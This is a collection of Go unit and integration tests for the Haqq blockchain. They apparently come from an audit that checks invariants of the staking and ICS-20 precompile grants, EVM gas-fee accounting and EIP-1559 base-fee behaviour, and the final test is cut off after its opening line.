package staking_test

import (
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
)

// Property C04: a limited grant (granter = signer, grantee = calling contract) is reduced by exactly the
// amount of the GRANTER's funds that the grantee used.
//
// Scenario: signer S granted contract C a DELEGATE allowance of 3e18 over S's funds. C owns 5e18 itself.
// In a transaction signed by S, C calls staking.delegate(C, val, 1e18), i.e. it stakes ITS OWN coins
// (C is the immediate caller and the named delegator: no authorization of anybody else is involved).
// None of S's coins move, so S's allowance for C must still be 3e18.
func (s *PrecompileTestSuite) TestZZHuntOwnFundsConsumeSignerGrant() {
	s.SetupTest()
	method := s.precompile.Methods[staking.DelegateMethod]

	signer := s.address
	contractC := testutiltx.GenerateAddress()
	valAddr := s.validators[0].GetOperator()

	// C owns 5e18 of the bond denom
	s.Require().NoError(haqqtestutil.FundAccount(s.ctx, s.app.BankKeeper, contractC.Bytes(),
		sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(5e18)))))

	// S -> C : DELEGATE, at most 3e18 of S's coins
	limit := sdk.NewCoin(utils.BaseDenom, math.NewInt(3e18))
	s.Require().NoError(s.CreateAuthorization(contractC, staking.DelegateAuthz, &limit))

	signerBalBefore := s.app.BankKeeper.GetBalance(s.ctx, signer.Bytes(), utils.BaseDenom)
	cBalBefore := s.app.BankKeeper.GetBalance(s.ctx, contractC.Bytes(), utils.BaseDenom)
	_, signerDelFound := s.app.StakingKeeper.GetDelegation(s.ctx, signer.Bytes(), valAddr)
	signerDelBefore := math.LegacyZeroDec()
	if signerDelFound {
		d, _ := s.app.StakingKeeper.GetDelegation(s.ctx, signer.Bytes(), valAddr)
		signerDelBefore = d.Shares
	}

	// tx signed by S; the immediate caller of the precompile is C; C names itself as the delegator
	var contract *vm.Contract
	contract, s.ctx = testutil.NewPrecompileContract(s.T(), s.ctx, contractC, s.precompile, 200000)
	_, err := s.precompile.Delegate(s.ctx, signer, contract, s.stateDB, &method,
		[]interface{}{contractC, valAddr.String(), big.NewInt(1e18)})
	s.Require().NoError(err)

	// what moved: only C's own coins
	signerBalAfter := s.app.BankKeeper.GetBalance(s.ctx, signer.Bytes(), utils.BaseDenom)
	cBalAfter := s.app.BankKeeper.GetBalance(s.ctx, contractC.Bytes(), utils.BaseDenom)
	s.Require().Equal(signerBalBefore.String(), signerBalAfter.String(), "the signer's coins must not move")
	s.Require().Equal(math.NewInt(1e18).String(), cBalBefore.Amount.Sub(cBalAfter.Amount).String(), "C staked 1e18 of its own coins")
	_, found := s.app.StakingKeeper.GetDelegation(s.ctx, contractC.Bytes(), valAddr)
	s.Require().True(found, "the delegation belongs to C")
	if d, ok := s.app.StakingKeeper.GetDelegation(s.ctx, signer.Bytes(), valAddr); ok {
		s.Require().Equal(signerDelBefore.String(), d.Shares.String(), "the signer's stake must not change")
	}

	// the property: S's allowance is reduced by exactly the amount of S's coins that were used = 0
	auth, _ := s.app.AuthzKeeper.GetAuthorization(s.ctx, contractC.Bytes(), signer.Bytes(), staking.DelegateMsg)
	s.Require().NotNil(auth, "the signer's grant to C must still exist")
	stakeAuthz, ok := auth.(*stakingtypes.StakeAuthorization)
	s.Require().True(ok)
	s.Require().Equal(limit.Amount.String(), stakeAuthz.MaxTokens.Amount.String(),
		"none of the signer's coins were used, but the signer's allowance for C was reduced")
}

// The mirror image: without any grant from the (unrelated) signer, a contract cannot stake its own coins.
// The named account is the immediate caller, so the property asks for no grant at all.
func (s *PrecompileTestSuite) TestZZHuntOwnFundsNeedSignerGrant() {
	s.SetupTest()
	method := s.precompile.Methods[staking.DelegateMethod]

	signer := s.address
	contractC := testutiltx.GenerateAddress()
	valAddr := s.validators[0].GetOperator()

	s.Require().NoError(haqqtestutil.FundAccount(s.ctx, s.app.BankKeeper, contractC.Bytes(),
		sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(5e18)))))

	var contract *vm.Contract
	contract, s.ctx = testutil.NewPrecompileContract(s.T(), s.ctx, contractC, s.precompile, 200000)
	_, err := s.precompile.Delegate(s.ctx, signer, contract, s.stateDB, &method,
		[]interface{}{contractC, valAddr.String(), big.NewInt(1e18)})
	s.Require().NoError(err, "the immediate caller stakes its own coins: no grant of the signer is involved")
}
