package ics20_test

import (
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/haqq-network/haqq/precompiles/ics20"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
)

// Property C04: a limited grant (granter = signer, grantee = calling contract) is reduced by exactly the amount
// of the GRANTER's funds that the grantee used.
//
// Signer S granted contract C an ICS-20 allowance of 3e18 aISLM on the channel. C owns 5e18 itself. In a
// transaction signed by S, C calls ics20.transfer(..., sender = C, 1e18): C sends ITS OWN coins.
// None of S's coins move, so S's allowance for C must still be 3e18.
func (s *PrecompileTestSuite) TestZZHuntOwnFundsConsumeSignerGrant() {
	s.SetupTest()
	method := s.precompile.Methods[ics20.TransferMethod]

	signerAcc := s.chainA.SenderAccount.GetAddress()
	signer := common.BytesToAddress(signerAcc)
	receiver := s.chainB.SenderAccount.GetAddress()
	contractC := testutiltx.GenerateAddress()

	path := NewTransferPath(s.chainA, s.chainB)
	s.coordinator.Setup(path)

	s.Require().NoError(haqqtestutil.FundAccount(s.ctx, s.app.BankKeeper, contractC.Bytes(),
		sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(5e18)))))

	limit := sdk.Coins{sdk.NewCoin(utils.BaseDenom, math.NewInt(3e18))}
	s.Require().NoError(s.NewTransferAuthorization(s.ctx, s.app, contractC, signer, path, limit, nil))

	signerBalBefore := s.app.BankKeeper.GetBalance(s.ctx, signerAcc, utils.BaseDenom)
	cBalBefore := s.app.BankKeeper.GetBalance(s.ctx, contractC.Bytes(), utils.BaseDenom)

	contract := vm.NewContract(vm.AccountRef(contractC), s.precompile, big.NewInt(0), 200000)
	s.ctx = s.ctx.WithGasMeter(sdk.NewInfiniteGasMeter())

	_, err := s.precompile.Transfer(s.ctx, signer, contract, s.stateDB, &method, []interface{}{
		path.EndpointA.ChannelConfig.PortID,
		path.EndpointA.ChannelID,
		utils.BaseDenom,
		big.NewInt(1e18),
		contractC, // the sender is the immediate caller
		receiver.String(),
		s.chainB.GetTimeoutHeight(),
		uint64(0),
		"memo",
	})
	s.Require().NoError(err)

	signerBalAfter := s.app.BankKeeper.GetBalance(s.ctx, signerAcc, utils.BaseDenom)
	cBalAfter := s.app.BankKeeper.GetBalance(s.ctx, contractC.Bytes(), utils.BaseDenom)
	s.Require().Equal(signerBalBefore.String(), signerBalAfter.String(), "the signer's coins must not move")
	s.Require().Equal(math.NewInt(1e18).String(), cBalBefore.Amount.Sub(cBalAfter.Amount).String(), "C sent 1e18 of its own coins")

	auth, _ := s.app.AuthzKeeper.GetAuthorization(s.ctx, contractC.Bytes(), signerAcc, ics20.TransferMsgURL)
	s.Require().NotNil(auth, "the signer's grant to C must still exist")
	transferAuthz, ok := auth.(*transfertypes.TransferAuthorization)
	s.Require().True(ok)
	s.Require().Equal(limit.String(), transferAuthz.Allocations[0].SpendLimit.String(),
		"none of the signer's coins were used, but the signer's allowance for C was reduced")
}
