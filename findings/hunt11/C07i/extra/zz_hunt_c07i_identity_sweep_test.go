package keeper_test

import (
	"fmt"
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/testutil/integration/haqq/factory"
	"github.com/haqq-network/haqq/testutil/integration/haqq/grpc"
	testkeyring "github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Sweep: sender_delta == gasUsed*effectivePrice (+value) == collector_delta, minMult*limit <= gasUsed <= limit.
func TestZZHuntC07iIdentity(t *testing.T) {
	keyring := testkeyring.New(3)
	nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(keyring.GetAllAccAddrs()...))
	gh := grpc.NewIntegrationHandler(nw)
	tf := factory.New(nw, gh)
	denom := nw.GetDenom()
	collector := authtypes.NewModuleAddress(authtypes.FeeCollectorName)
	stakingABI, err := staking.LoadABI()
	require.NoError(t, err)
	precompile := common.HexToAddress(staking.PrecompileAddress)
	valAddr := nw.GetValidators()[0].OperatorAddress

	bal := func(a sdk.AccAddress) sdkmath.Int { return nw.App.BankKeeper.GetBalance(nw.GetContext(), a, denom).Amount }

	type scen struct {
		name  string
		build func(k testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs)
		value int64
	}
	recv := keyring.GetKey(2)
	scens := []scen{
		{"transfer-biglimit", func(testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs) {
			return evmtypes.EvmTxArgs{To: &recv.Addr, Amount: big.NewInt(1000), GasLimit: 100000}, nil
		}, 1000},
		{"transfer-exact", func(testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs) {
			return evmtypes.EvmTxArgs{To: &recv.Addr, Amount: big.NewInt(7), GasLimit: 21000}, nil
		}, 7},
		{"create-revert", func(testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs) {
			return evmtypes.EvmTxArgs{Input: common.FromHex("0x60006000fd"), GasLimit: 200000}, nil
		}, 0},
		{"create-invalid-oog", func(testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs) {
			return evmtypes.EvmTxArgs{Input: common.FromHex("0xfe"), GasLimit: 200000}, nil
		}, 0},
		{"create-sstore-refund", func(testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs) {
			return evmtypes.EvmTxArgs{Input: common.FromHex("0x6001600055600060005500"), GasLimit: 300000}, nil
		}, 0},
		{"precompile-delegate", func(k testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs) {
			return evmtypes.EvmTxArgs{To: &precompile, GasLimit: 400000}, &factory.CallArgs{
				ContractABI: stakingABI, MethodName: staking.DelegateMethod,
				Args: []interface{}{k.Addr, valAddr, big.NewInt(200)},
			}
		}, 0},
		{"precompile-delegate-oog", func(k testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs) {
			return evmtypes.EvmTxArgs{To: &precompile, GasLimit: 40000}, &factory.CallArgs{
				ContractABI: stakingABI, MethodName: staking.DelegateMethod,
				Args: []interface{}{k.Addr, valAddr, big.NewInt(200)},
			}
		}, 0},
		{"precompile-bad-input", func(k testkeyring.Key) (evmtypes.EvmTxArgs, *factory.CallArgs) {
			return evmtypes.EvmTxArgs{To: &precompile, Input: []byte{1, 2}, GasLimit: 100000}, nil
		}, 0},
	}

	var failures []string
	for _, mult := range []string{"0", "0.5", "1", "0.333333333333333333"} {
		for _, mgp := range []string{"0", "1500000000.5"} {
			fp := nw.App.FeeMarketKeeper.GetParams(nw.GetContext())
			fp.MinGasMultiplier = sdk.MustNewDecFromStr(mult)
			fp.MinGasPrice = sdk.MustNewDecFromStr(mgp)
			require.NoError(t, nw.App.FeeMarketKeeper.SetParams(nw.GetContext(), fp))
			require.NoError(t, nw.NextBlock())
			ethCfg := nw.App.EvmKeeper.GetParams(nw.GetContext()).ChainConfig.EthereumConfig(nw.App.EvmKeeper.ChainID())

			for _, ty := range []string{"dyn-smalltip", "dyn-capbound", "legacy", "accesslist"} {
				for _, sc := range scens {
					name := fmt.Sprintf("mult=%s/mgp=%s/%s/%s", mult, mgp, ty, sc.name)
					baseFee := nw.App.EvmKeeper.GetBaseFee(nw.GetContext(), ethCfg)
					k := keyring.GetKey(0)
					args, call := sc.build(k)
					var price *big.Int
					switch ty {
					case "dyn-smalltip":
						tip := big.NewInt(1000000000)
						args.GasTipCap = tip
						args.GasFeeCap = new(big.Int).Add(new(big.Int).Mul(baseFee, big.NewInt(3)), big.NewInt(3000000000))
						price = new(big.Int).Add(baseFee, tip)
					case "dyn-capbound":
						capv := new(big.Int).Add(baseFee, big.NewInt(2000000001))
						args.GasFeeCap = capv
						args.GasTipCap = capv
						price = capv
					case "legacy":
						price = new(big.Int).Add(baseFee, big.NewInt(2000000003))
						args.GasPrice = price
					case "accesslist":
						price = new(big.Int).Add(baseFee, big.NewInt(2000000007))
						args.GasPrice = price
						args.Accesses = &ethtypes.AccessList{{Address: recv.Addr, StorageKeys: []common.Hash{{1}}}}
					}
					sBefore, cBefore := bal(k.AccAddr), bal(collector)
					var resErr error
					var gasUsed, gasWanted int64
					if call != nil {
						r, e := tf.ExecuteContractCall(k.Priv, args, *call)
						resErr, gasUsed, gasWanted = e, r.GasUsed, r.GasWanted
					} else {
						r, e := tf.ExecuteEthTx(k.Priv, args)
						resErr, gasUsed, gasWanted = e, r.GasUsed, r.GasWanted
					}
					sAfter, cAfter := bal(k.AccAddr), bal(collector)
					paid := sBefore.Sub(sAfter)
					got := cAfter.Sub(cBefore)
					failed := resErr != nil
					value := sdkmath.NewInt(sc.value)
					if failed {
						value = sdkmath.ZeroInt()
					}
					// delegate moves 200 out of the sender on success
					if sc.name == "precompile-delegate" && !failed {
						value = sdkmath.NewInt(200)
					}
					expFee := sdkmath.NewIntFromBigInt(new(big.Int).Mul(price, big.NewInt(gasUsed)))
					minUsed := sdk.MustNewDecFromStr(mult).MulInt64(int64(args.GasLimit)).TruncateInt64()
					ok := paid.Sub(value).Equal(expFee) && got.Equal(expFee) &&
						gasUsed <= int64(args.GasLimit) && gasUsed >= minUsed && gasWanted == int64(args.GasLimit) && gasUsed > 0
					line := fmt.Sprintf("%s: failed=%v gasLimit=%d gasWanted=%d gasUsed=%d(min %d) price=%s expFee=%s senderPaid(net of value %s)=%s collectorGot=%s",
						name, failed, args.GasLimit, gasWanted, gasUsed, minUsed, price, expFee, value, paid.Sub(value), got)
					if !ok {
						failures = append(failures, line)
					}
					t.Log(line)
					require.NoError(t, nw.NextBlock())
				}
			}
		}
	}
	for _, f := range failures {
		t.Errorf("IDENTITY BROKEN %s", f)
	}
}
