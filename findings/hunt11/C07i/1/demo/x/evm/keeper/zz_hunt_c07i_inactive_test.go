package keeper_test

import (
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/testutil/integration/haqq/factory"
	"github.com/haqq-network/haqq/testutil/integration/haqq/grpc"
	testkeyring "github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Property C07: for an Ethereum transaction that is included in a block the sender's net payment is
// gasUsed x effectiveGasPrice with gasUsed = max(EVM gas consumed after refunds, minGasMultiplier x gasLimit),
// the fee collector receives exactly that and the rest of the up-front deduction returns to the sender.
//
// Governance removes the bank precompile (0x…0804) from evm.active_precompiles (MsgUpdateParams, the
// documented way to switch a precompile off). Afterwards a plain value transfer to that address, which
// consumes nothing but the 21000 intrinsic gas in the EVM, is charged its WHOLE gas limit, fails with a
// non-zero code and nothing is refunded. The same transfer to 0x…0803 (a reserved address that is not in
// the list of available extensions) succeeds and is charged minGasMultiplier x gasLimit.
func TestZZHuntC07iInactivePrecompileChargesWholeLimit(t *testing.T) {
	keyring := testkeyring.New(2)
	nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(keyring.GetAllAccAddrs()...))
	gh := grpc.NewIntegrationHandler(nw)
	tf := factory.New(nw, gh)
	denom := nw.GetDenom()
	collector := authtypes.NewModuleAddress(authtypes.FeeCollectorName)
	bal := func(a sdk.AccAddress) sdkmath.Int { return nw.App.BankKeeper.GetBalance(nw.GetContext(), a, denom).Amount }

	const bankPrecompile = "0x0000000000000000000000000000000000000804"

	// governance switches the bank precompile off
	params := nw.App.EvmKeeper.GetParams(nw.GetContext())
	var active []string
	for _, a := range params.ActivePrecompiles {
		if a != bankPrecompile {
			active = append(active, a)
		}
	}
	require.Len(t, active, len(params.ActivePrecompiles)-1)
	params.ActivePrecompiles = active
	_, err := nw.App.EvmKeeper.UpdateParams(nw.GetContext(), &evmtypes.MsgUpdateParams{
		Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(),
		Params:    params,
	})
	require.NoError(t, err)
	require.NoError(t, nw.NextBlock())

	mult := nw.App.FeeMarketKeeper.GetParams(nw.GetContext()).MinGasMultiplier
	ethCfg := params.ChainConfig.EthereumConfig(nw.App.EvmKeeper.ChainID())

	const gasLimit = uint64(100000)
	k := keyring.GetKey(0)

	run := func(to common.Address) (code uint32, gasUsed int64, price *big.Int, paid, got sdkmath.Int, log string) {
		baseFee := nw.App.EvmKeeper.GetBaseFee(nw.GetContext(), ethCfg)
		price = new(big.Int).Add(baseFee, big.NewInt(1))
		sBefore, cBefore := bal(k.AccAddr), bal(collector)
		res, _ := tf.ExecuteEthTx(k.Priv, evmtypes.EvmTxArgs{
			To: &to, Amount: big.NewInt(0), GasLimit: gasLimit, GasPrice: price,
		})
		paid, got = sBefore.Sub(bal(k.AccAddr)), bal(collector).Sub(cBefore)
		require.NoError(t, nw.NextBlock())
		return res.Code, res.GasUsed, price, paid, got, res.Log
	}

	// the EVM itself can consume no more than the intrinsic gas of an empty call (21000);
	// the minimum-gas-used rule lifts that to minGasMultiplier x gasLimit
	expGas := mult.MulInt64(int64(gasLimit)).TruncateInt64()
	if expGas < 21000 {
		expGas = 21000
	}

	// control: reserved address that is not an available extension
	code, gasUsed, price, paid, got, log := run(common.HexToAddress("0x0000000000000000000000000000000000000803"))
	t.Logf("control 0x..0803: code=%d gasUsed=%d price=%s senderPaid=%s collectorGot=%s", code, gasUsed, price, paid, got)
	require.Equal(t, uint32(0), code, log)
	require.Equal(t, expGas, gasUsed)
	require.Equal(t, sdkmath.NewIntFromBigInt(new(big.Int).Mul(price, big.NewInt(expGas))).String(), paid.String())
	require.Equal(t, paid.String(), got.String())

	// the precompile governance switched off
	code, gasUsed, price, paid, got, log = run(common.HexToAddress(bankPrecompile))
	expFee := sdkmath.NewIntFromBigInt(new(big.Int).Mul(price, big.NewInt(expGas)))
	t.Logf("inactive 0x..0804: code=%d gasLimit=%d gasUsed=%d (expected %d) price=%s senderPaid=%s (expected %s) collectorGot=%s log=%q",
		code, gasLimit, gasUsed, expGas, price, paid, expFee, got, log)
	if code != 0 && paid.IsZero() && got.IsZero() {
		// refused before any fee was taken (ante handler): nobody paid anything, the property holds
		return
	}
	require.Equal(t, expFee.String(), paid.String(),
		"sender of a transfer to a switched-off precompile must pay max(EVM gas, minGasMultiplier x gasLimit) x price, not the whole gas limit")
	require.Equal(t, expFee.String(), got.String(), "fee collector must receive exactly gasUsed x price")
	require.Equal(t, expGas, gasUsed)
}
