package keeper_test

import (
	"math/big"

	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	consensuskeeper "github.com/cosmos/cosmos-sdk/x/consensus/keeper"
	consensustypes "github.com/cosmos/cosmos-sdk/x/consensus/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
)

// eip1559 is the reference function of the property (go-ethereum CalcBaseFee with the PARENT's target).
func zzEIP1559(base *big.Int, g, target uint64, denom int64) *big.Int {
	if g == target {
		return new(big.Int).Set(base)
	}
	t := new(big.Int).SetUint64(target)
	d := big.NewInt(denom)
	if g > target {
		x := new(big.Int).Mul(base, new(big.Int).SetUint64(g-target))
		x.Div(x, t)
		x.Div(x, d)
		if x.Sign() == 0 {
			x.SetInt64(1)
		}
		return x.Add(base, x)
	}
	x := new(big.Int).Mul(base, new(big.Int).SetUint64(target-g))
	x.Div(x, t)
	x.Div(x, d)
	return x.Sub(base, x)
}

// Block N is produced under max_gas = 40M (target 20M) and uses 12M gas: it is BELOW its target.
// A governance x/consensus MsgUpdateParams executed in block N lowers max_gas to 10M (valid from N+1).
// The base fee of block N+1 must be the EIP-1559 function of block N's gas against block N's target.
func (suite *KeeperTestSuite) TestZZHuntTargetOfParentBlock() {
	suite.SetupTest()
	k := suite.app.FeeMarketKeeper

	const oldMaxGas, newMaxGas = int64(40_000_000), int64(10_000_000)
	const gasOfBlockN = uint64(12_000_000)

	// chain state before block N: max_gas = 40M
	cp := suite.app.GetConsensusParams(suite.ctx)
	cp.Block.MaxGas = oldMaxGas
	suite.app.StoreConsensusParams(suite.ctx, cp)

	params := k.GetParams(suite.ctx)
	params.EnableHeight = 0
	params.NoBaseFee = false
	suite.Require().NoError(k.SetParams(suite.ctx, params))
	elasticity := uint64(params.ElasticityMultiplier)
	denom := int64(params.BaseFeeChangeDenominator)

	// ---- block N (what baseapp.BeginBlock puts into the context)
	ctxN := suite.ctx.WithBlockHeight(10).
		WithConsensusParams(suite.app.GetConsensusParams(suite.ctx)).
		WithBlockGasMeter(sdk.NewGasMeter(uint64(oldMaxGas)))
	suite.Require().Equal(oldMaxGas, ctxN.ConsensusParams().Block.MaxGas)
	k.BeginBlock(ctxN, abci.RequestBeginBlock{})
	parentBaseFee := k.GetParams(ctxN).BaseFee.BigInt() // base fee of block N

	// transactions of block N: 12M gas wanted and used
	_, err := k.AddTransientGasWanted(ctxN, gasOfBlockN)
	suite.Require().NoError(err)
	ctxN.BlockGasMeter().ConsumeGas(gasOfBlockN, "txs of block N")

	// governance lowers the block gas limit in block N through the real x/consensus message server
	newCP := suite.app.GetConsensusParams(ctxN)
	newCP.Block.MaxGas = newMaxGas
	_, err = consensuskeeper.NewMsgServerImpl(suite.app.ConsensusParamsKeeper).UpdateParams(ctxN, &consensustypes.MsgUpdateParams{
		Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(),
		Block:     newCP.Block,
		Evidence:  newCP.Evidence,
		Validator: newCP.Validator,
	})
	suite.Require().NoError(err)

	k.EndBlock(ctxN, abci.RequestEndBlock{Height: 10})
	suite.Require().Equal(gasOfBlockN, k.GetBlockGasWanted(ctxN))

	// ---- block N+1
	ctxN1 := suite.ctx.WithBlockHeight(11).
		WithConsensusParams(suite.app.GetConsensusParams(suite.ctx)).
		WithBlockGasMeter(sdk.NewGasMeter(uint64(newMaxGas)))
	suite.Require().Equal(newMaxGas, ctxN1.ConsensusParams().Block.MaxGas)
	k.BeginBlock(ctxN1, abci.RequestBeginBlock{})
	got := k.GetParams(ctxN1).BaseFee.BigInt()

	targetOfBlockN := uint64(oldMaxGas) / elasticity
	want := zzEIP1559(parentBaseFee, gasOfBlockN, targetOfBlockN, denom)

	suite.T().Logf("parent base fee %s, block N gas %d, block N target %d (max_gas %d) -> EIP-1559 %s; chain computed %s",
		parentBaseFee, gasOfBlockN, targetOfBlockN, oldMaxGas, want, got)

	// block N was below its own target: its successor's base fee must not rise
	suite.Require().True(got.Cmp(parentBaseFee) <= 0,
		"block N used %d gas, below its target %d, but the base fee rose from %s to %s", gasOfBlockN, targetOfBlockN, parentBaseFee, got)
	suite.Require().Equal(want.String(), got.String(), "base fee is not the EIP-1559 function of the parent block's gas and target")
}
