package keeper_test

import (
	"encoding/json"
	"os"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/feemarket/types"
)

// A chain switched EIP-1559 on at height 5 (EnableHeight = 5) and is at height > 5: the base fee follows
// EIP-1559. It is exported for zero height and restarted from the exported genesis (heights start at 1 again).
// The base fee must keep following EIP-1559 on the restarted chain.
func (suite *KeeperTestSuite) TestZZHuntZeroHeightExportEnableHeight() {
	suite.SetupTest()
	k := suite.app.FeeMarketKeeper
	chainID := utils.MainNetChainID + "-1"
	h0 := suite.ctx.BlockHeader()
	h0.ChainID = chainID
	suite.ctx = suite.ctx.WithBlockHeader(h0)

	params := k.GetParams(suite.ctx)
	params.EnableHeight = 5
	suite.Require().NoError(k.SetParams(suite.ctx, params))
	for suite.ctx.BlockHeight() < 10 {
		suite.Commit()
	}
	suite.Require().True(k.GetBaseFeeEnabled(suite.ctx), "old chain: base fee enabled at height %d", suite.ctx.BlockHeight())
	before := k.GetParams(suite.ctx).BaseFee
	suite.Commit()
	after := k.GetParams(suite.ctx).BaseFee
	suite.Require().True(after.LT(before), "old chain: an empty block lowers the base fee (%s -> %s)", before, after)

	exported, err := suite.app.ExportAppStateAndValidators(true, []string{}, []string{})
	suite.Require().NoError(err)
	suite.Require().Equal(int64(0), exported.Height)

	// restart from the exported genesis
	app2 := app.NewHaqq(
		log.NewTMLogger(log.NewSyncWriter(os.Stdout)),
		dbm.NewMemDB(), nil, true, map[int64]bool{},
		app.DefaultNodeHome, 0,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)
	var gs map[string]json.RawMessage
	suite.Require().NoError(json.Unmarshal(exported.AppState, &gs))
	var fm types.GenesisState
	suite.appCodec.MustUnmarshalJSON(gs[types.ModuleName], &fm)
	suite.T().Logf("exported feemarket genesis: enable_height %d, no_base_fee %v, base_fee %s", fm.Params.EnableHeight, fm.Params.NoBaseFee, fm.Params.BaseFee)

	vals := make([]abci.ValidatorUpdate, 0)
	app2.InitChain(abci.RequestInitChain{
		ChainId:         chainID,
		ConsensusParams: exported.ConsensusParams,
		Validators:      vals,
		AppStateBytes:   exported.AppState,
		InitialHeight:   1,
	})
	app2.Commit()

	hdr := suite.ctx.BlockHeader()
	fees := make([]string, 0)
	enabled := true
	for h := int64(2); h <= 4; h++ {
		hdr.Height = h
		app2.BeginBlock(abci.RequestBeginBlock{Header: hdr})
		ctx2 := app2.BaseApp.NewContext(false, tmproto.Header{Height: h, ChainID: chainID})
		fees = append(fees, app2.FeeMarketKeeper.GetParams(ctx2).BaseFee.String())
		enabled = app2.FeeMarketKeeper.GetBaseFeeEnabled(ctx2)
		suite.T().Logf("restarted chain height %d: base fee enabled %v, base fee %s", h, app2.FeeMarketKeeper.GetBaseFeeEnabled(ctx2), fees[len(fees)-1])
		app2.EndBlock(abci.RequestEndBlock{Height: h})
		app2.Commit()
	}
	suite.Require().True(enabled,
		"EIP-1559 was active on the exported chain, but is switched off on the restarted chain at height 4 (enable_height %d exported unchanged)", fm.Params.EnableHeight)
	suite.Require().NotEqual(fees[0], fees[2], "empty blocks must lower the base fee on the restarted chain as they did before the export")
}
