package staking_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkstaking "github.com/cosmos/cosmos-sdk/x/staking"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzStakePoolRuntime is a minimal "staking pool": it first does its own bookkeeping (SSTORE slot0 = 1) and then
// forwards its calldata to the staking precompile 0x…0800 with value 0; it reverts iff that call failed.
//
//	6001 6000 55                          sstore(0, 1)
//	36 6000 6000 37                       calldatacopy(0, 0, calldatasize)
//	6000 6000 36 6000 6000 610800 5a f1   call(gas, 0x800, 0, 0, calldatasize, 0, 0)
//	15 601e 57 00                         if failed jump 0x1e ; stop
//	5b 6000 6000 fd                       revert(0,0)
var zzStakePoolRuntime = common.FromHex("60016000553660006000376000600036600060006108005af115601e57005b60006000fd")

func zzInitCode(runtime []byte) []byte {
	// PUSH1 len DUP1 PUSH1 0x0b PUSH1 0 CODECOPY PUSH1 0 RETURN
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

func (s *PrecompileTestSuite) zzNextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

// Property C02: an Ethereum transaction never mints or burns the native coin, and every account ends with
// what it had plus what it received.
//
// The delegator is the calling contract itself: it undelegates part of ITS OWN delegation with
// staking.undelegate(address(this), val, amt) (the tx signer has approved the contract for Undelegate, as the
// precompile demands) after having written one of its storage slots. Staking's BeforeDelegationSharesModified
// hook pays the contract's pending rewards out to it.
func (s *PrecompileTestSuite) TestZZHuntContractDelegatorUndelegate() {
